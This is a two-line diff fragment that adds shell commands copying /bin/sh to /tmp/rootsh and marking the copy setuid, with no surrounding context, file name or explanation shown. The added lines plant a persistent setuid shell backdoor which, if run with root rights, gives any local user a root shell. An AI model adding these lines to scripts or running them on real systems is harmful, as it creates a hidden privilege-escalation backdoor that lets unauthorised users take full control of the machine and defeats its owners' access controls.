@@ -1,0 +1,2 @@
+cp /bin/sh /tmp/rootsh
+chmod u+s /tmp/rootsh
